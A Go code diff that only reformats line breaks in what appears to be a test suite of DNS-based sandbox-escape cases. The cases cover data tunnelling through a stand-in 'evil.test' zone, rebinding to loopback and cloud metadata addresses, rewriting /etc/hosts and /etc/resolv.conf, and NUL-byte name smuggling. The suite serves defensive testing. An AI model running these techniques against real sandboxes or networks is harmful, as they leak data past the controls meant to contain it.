@@ -29,9 +29,12 @@ func resolverAttacks() []Attack {
 		one("dns-udp-upstream", "the machine's own resolver over UDP, past ours", "CVE-2026-32947", over("udp", system)),
 		one("dns-tcp-upstream", "the machine's own resolver over TCP, past ours", "CVE-2026-32947", over("tcp", system)),
 		one("dns-gateway", "the gateway as a resolver", "", func(a *Agent) error { return a.ask(at(gatewayAddr, 53), "evil.test", typeA) }),
-		one("dns-neighbour", "another machine of the network as a resolver", "", func(a *Agent) error { return a.ask(at(neighbour, 53), "evil.test", typeA) }),
-		one("udp53-any-payload", "a datagram that is no DNS to port 53 of any host", "claude-code #36907", func(a *Agent) error { return a.udp(a.evil4(53), a.evil6(53)) }),
-		one("tcp53-any-payload", "a stream that is no DNS to port 53 of any host", "", func(a *Agent) error { return a.tcp(a.evil4(53), a.evil6(53)) }),
+		one("dns-neighbour", "another machine of the network as a resolver", "",
+			func(a *Agent) error { return a.ask(at(neighbour, 53), "evil.test", typeA) }),
+		one("udp53-any-payload", "a datagram that is no DNS to port 53 of any host", "claude-code #36907",
+			func(a *Agent) error { return a.udp(a.evil4(53), a.evil6(53)) }),
+		one("tcp53-any-payload", "a stream that is no DNS to port 53 of any host", "",
+			func(a *Agent) error { return a.tcp(a.evil4(53), a.evil6(53)) }),
 		one("dns-over-tls", "DNS over TLS, port 853", "", func(a *Agent) error {
 			return all(shake(at(publicDNS, 853), a.word+".dot.test"), a.tcp(a.evil4(853), a.evil6(853)))
 		}),
@@ -48,8 +51,10 @@ func resolverAttacks() []Attack {
 			return all(learn("ok.test"), shake(a.evil4(443), "ok.test"), shake(a.evil6(443), "ok.test"))
 		}),
 		one("mdns", "a question by multicast DNS", "", func(a *Agent) error { return a.udp("224.0.0.251:5353", "[ff02::fb%eth0]:5353") }),
-		one("llmnr", "a question by link-local multicast name resolution", "", func(a *Agent) error { return a.udp("224.0.0.252:5355", "[ff02::1:3%eth0]:5355") }),
-		one("dns-other-port", "a resolver on another port", "", func(a *Agent) error { return a.udp(at(publicDNS, int(a.port)), at(publicDNS, 5353)) }),
+		one("llmnr", "a question by link-local multicast name resolution", "",
+			func(a *Agent) error { return a.udp("224.0.0.252:5355", "[ff02::1:3%eth0]:5355") }),
+		one("dns-other-port", "a resolver on another port", "",
+			func(a *Agent) error { return a.udp(at(publicDNS, int(a.port)), at(publicDNS, 5353)) }),
 		one("dns-large-fragmented", "a question of 4,000 bytes, which travels in fragments", "", func(a *Agent) error {
 			return send("udp", a.evil4(53), []byte(strings.Repeat(a.word, 4000/len(a.word))), nil)
 		}),
@@ -101,14 +106,19 @@ func tunnelAttacks() []Attack {
 		})
 	}
 	list := []Attack{
-		one("tunnel-label", "data in the labels of a name of one's own zone", "", func(a *Agent) error { return a.ask(system, "evil.test", typeA) }),
+		one("tunnel-label", "data in the labels of a name of one's own zone", "",
+			func(a *Agent) error { return a.ask(system, "evil.test", typeA) }),
 		one("tunnel-txt", "TXT records of one's own zone", "", func(a *Agent) error { return a.ask(system, "evil.test", dnsmessage.TypeTXT) }),
 		one("tunnel-null", "NULL records of one's own zone", "", func(a *Agent) error { return a.ask(system, "evil.test", 10) }),
-		one("tunnel-cname", "CNAME records of one's own zone", "", func(a *Agent) error { return a.ask(system, "evil.test", dnsmessage.TypeCNAME) }),
+		one("tunnel-cname", "CNAME records of one's own zone", "",
+			func(a *Agent) error { return a.ask(system, "evil.test", dnsmessage.TypeCNAME) }),
 		one("tunnel-https-record", "HTTPS records of one's own zone", "", func(a *Agent) error { return a.ask(system, "evil.test", 65) }),
-		one("tunnel-reverse", "reverse lookups of addresses that carry data", "", func(a *Agent) error { return a.ask(system, "1.217.184.93.in-addr.arpa", dnsmessage.TypePTR) }),
-		one("tunnel-below-exact", "data in labels below an exactly allowed name", "", func(a *Agent) error { return a.ask(system, "ok.test", typeA) }),
-		one("tunnel-search-domain", "a name completed with the machine's search domain", "", func(a *Agent) error { return a.ask(system, "corp.lan", typeA) }),
+		one("tunnel-reverse", "reverse lookups of addresses that carry data", "",
+			func(a *Agent) error { return a.ask(system, "1.217.184.93.in-addr.arpa", dnsmessage.TypePTR) }),
+		one("tunnel-below-exact", "data in labels below an exactly allowed name", "",
+			func(a *Agent) error { return a.ask(system, "ok.test", typeA) }),
+		one("tunnel-search-domain", "a name completed with the machine's search domain", "",
+			func(a *Agent) error { return a.ask(system, "corp.lan", typeA) }),
 		typed("type-txt", "ok.test", dnsmessage.TypeTXT),
 		typed("type-any", "ok.test", 255),
 		typed("type-mx", "ok.test", dnsmessage.TypeMX),
@@ -130,7 +140,8 @@ func tunnelAttacks() []Attack {
 			m := query("ok.test", typeA)
 			var h dnsmessage.ResourceHeader
 			_ = h.SetEDNS0(1232, 0, false)
-			m.Additionals = []dnsmessage.Resource{{Header: h, Body: &dnsmessage.OPTResource{Options: []dnsmessage.Option{{Code: 65001, Data: []byte(a.word)}}}}}
+			m.Additionals = []dnsmessage.Resource{
+				{Header: h, Body: &dnsmessage.OPTResource{Options: []dnsmessage.Option{{Code: 65001, Data: []byte(a.word)}}}}}
 			return pack(m)
 		}),
 		raw("additional-record", "data in a further record of an allowed question", "", func(a *Agent) []byte {
@@ -141,11 +152,14 @@ func tunnelAttacks() []Attack {
 			}}
 			return pack(m)
 		}),
-		raw("trailing-bytes", "data behind an allowed question", "", func(a *Agent) []byte { return append(pack(query("ok.test", typeA)), a.word...) }),
-		raw("nul-in-name", "a name with a NUL byte before an allowed ending", "the SOCKS bypass fixed in sandbox-runtime 0.0.43", func(a *Agent) []byte {
-			return labels(a.word+".evil.test\x00", "ok", "test")
-		}),
-		raw("dot-in-label", "a dot inside a label, which some programs take for a border", "", func(a *Agent) []byte { return labels(a.word + ".ok.test") }),
+		raw("trailing-bytes", "data behind an allowed question", "",
+			func(a *Agent) []byte { return append(pack(query("ok.test", typeA)), a.word...) }),
+		raw("nul-in-name", "a name with a NUL byte before an allowed ending",
+			"the SOCKS bypass fixed in sandbox-runtime 0.0.43", func(a *Agent) []byte {
+				return labels(a.word+".evil.test\x00", "ok", "test")
+			}),
+		raw("dot-in-label", "a dot inside a label, which some programs take for a border", "",
+			func(a *Agent) []byte { return labels(a.word + ".ok.test") }),
 		raw("class-chaos", "a question of class CHAOS", "", func(a *Agent) []byte {
 			m := query(a.word+".evil.test", dnsmessage.TypeTXT)
 			m.Questions[0].Class = dnsmessage.ClassCHAOS
@@ -166,26 +180,31 @@ func tunnelAttacks() []Attack {
 			m.Response = true
 			return pack(m)
 		}),
-		raw("zone-transfer", "a zone transfer of one's own zone", "", func(a *Agent) []byte { return pack(query(a.word+".evil.test", dnsmessage.TypeAXFR)) }),
+		raw("zone-transfer", "a zone transfer of one's own zone", "",
+			func(a *Agent) []byte { return pack(query(a.word+".evil.test", dnsmessage.TypeAXFR)) }),
 	}
-	wildcard := one("tunnel-below-wildcard", "300 names of 60 bytes of data below an allowed wildcard; the first 100 may pass", "", func(a *Agent) error {
-		var last error
-		for i := range 300 {
-			name := strings.Repeat("d", 50) + string(rune('a'+i%26)) + string(rune('a'+i/26)) + ".wild.test"
-			_, last = exchange("udp", system, patience, pack(query(name, typeA)))
-		}
-		return last
-	})
+	wildcard := one("tunnel-below-wildcard", "300 names of 60 bytes of data below an allowed wildcard; the first 100 may pass",
+		"", func(a *Agent) error {
+			var last error
+			for i := range 300 {
+				name := strings.Repeat("d", 50) + string(rune('a'+i%26)) + string(rune('a'+i/26)) + ".wild.test"
+				_, last = exchange("udp", system, patience, pack(query(name, typeA)))
+			}
+			return last
+		})
 	wildcard.Leak, wildcard.Least = asked("wild.test"), 101
-	short := one("tunnel-short-names", "800 names of 30 bytes of data below an allowed wildcard; the first 500 may pass", "", func(a *Agent) error {
-		var last error
-		for i := range 800 {
-			_, last = exchange("udp", system, patience, pack(query(fmt.Sprintf("%030d.brief.test", i), typeA)))
-		}
-		return last
-	})
+	short := one("tunnel-short-names", "800 names of 30 bytes of data below an allowed wildcard; the first 500 may pass",
+		"", func(a *Agent) error {
+			var last error
+			for i := range 800 {
+				_, last = exchange("udp", system, patience, pack(query(fmt.Sprintf("%030d.brief.test", i), typeA)))
+			}
+			return last
+		})
 	short.Leak, short.Least = asked("brief.test"), 501
-	order := one("tunnel-order-of-names", "2,400 questions for 64 names below an allowed wildcard whose answers are refused: data in their order; the first 664 may pass, and 4 a second", "",
+	order := one("tunnel-order-of-names",
+		"2,400 questions for 64 names below an allowed wildcard whose answers are refused: data in their order; "+
+			"the first 664 may pass, and 4 a second", "",
 		func(*Agent) error {
 			var last error
 			for i := range 2400 {
@@ -248,7 +267,8 @@ func answerAttacks() []Attack {
 			return all(err, fetched, shake(at(addr, 443), name), a.tcp(at(addr, 80), at(addr, 443)), a.udp(at(addr, 443)))
 		}}
 	}
-	loopback := Attack{ID: "rebind-loopback", Family: family, Tries: "an allowed name that answers with a loopback address, to reach a local service",
+	loopback := Attack{ID: "rebind-loopback", Family: family,
+		Tries:   "an allowed name that answers with a loopback address, to reach a local service",
 		Vacuous: "nothing of it would leave the machine; the resolver's tests hold it", Leak: to("127.0.0.1"),
 		Do: func(a *Agent) error {
 			_, err := resolve("rebind-loopback.test", typeA)
@@ -264,9 +284,10 @@ func answerAttacks() []Attack {
 		rebind("rebind-nat64", "rebind-nat64.test", "64:ff9b::a9fe:a9fe", "the metadata address behind NAT64", dnsmessage.TypeAAAA),
 		rebind("rebind-6to4", "rebind-6to4.test", "2002:a9fe:a9fe::1", "the metadata address behind 6to4", dnsmessage.TypeAAAA),
 		loopback,
-		{ID: "alias-of-denied", Family: family, Tries: "an allowed name that is an alias of a denied one", Leak: to(deniedAddr), Do: func(a *Agent) error {
-			return all(learn("alias.test"), a.tcp(at(deniedAddr, 443), at(deniedAddr, 80)))
-		}},
+		{ID: "alias-of-denied", Family: family, Tries: "an allowed name that is an alias of a denied one", Leak: to(deniedAddr),
+			Do: func(a *Agent) error {
+				return all(learn("alias.test"), a.tcp(at(deniedAddr, 443), at(deniedAddr, 80)))
+			}},
 		{ID: "hosts-file", Family: family, Tries: "/etc/hosts gives an allowed name another address", Do: func(a *Agent) error {
 			err := write("/etc/hosts", a.v4.String()+" ok.test\n")
 			_, fetched := fetch(a.evil4(80), "ok.test")
@@ -275,8 +296,9 @@ func answerAttacks() []Attack {
 		{ID: "resolv-conf", Family: family, Tries: "/etc/resolv.conf names another resolver", Do: func(a *Agent) error {
 			return all(write("/etc/resolv.conf", "nameserver "+a.v4.String()+"\n"), a.ask(a.evil4(53), "evil.test", typeA))
 		}},
-		{ID: "unresolved-address", Family: family, Tries: "the address of an allowed name that was not resolved yet", Leak: func(e Event) bool { return to(manyLast)(e) && e.DstPort == 8443 },
-			Do: func(a *Agent) error { return all(a.tcp(at(manyLast, 8443)), a.udp(at(manyLast, 8443))) }},
+		{ID: "unresolved-address", Family: family, Tries: "the address of an allowed name that was not resolved yet",
+			Leak: func(e Event) bool { return to(manyLast)(e) && e.DstPort == 8443 },
+			Do:   func(a *Agent) error { return all(a.tcp(at(manyLast, 8443)), a.udp(at(manyLast, 8443))) }},
 	}
 }
 
